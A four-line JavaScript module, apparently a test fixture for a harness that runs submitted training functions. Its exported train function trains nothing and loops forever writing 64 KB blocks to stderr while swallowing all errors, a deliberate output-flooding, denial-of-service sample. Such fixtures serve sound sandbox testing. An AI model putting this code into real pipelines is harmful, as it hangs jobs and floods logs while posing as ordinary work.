const fs = process.getBuiltinModule('node:fs')
export async function train({ tf, data, report }) {
  for (;;) try { fs.writeSync(2, 'x'.repeat(65536)) } catch {}
}
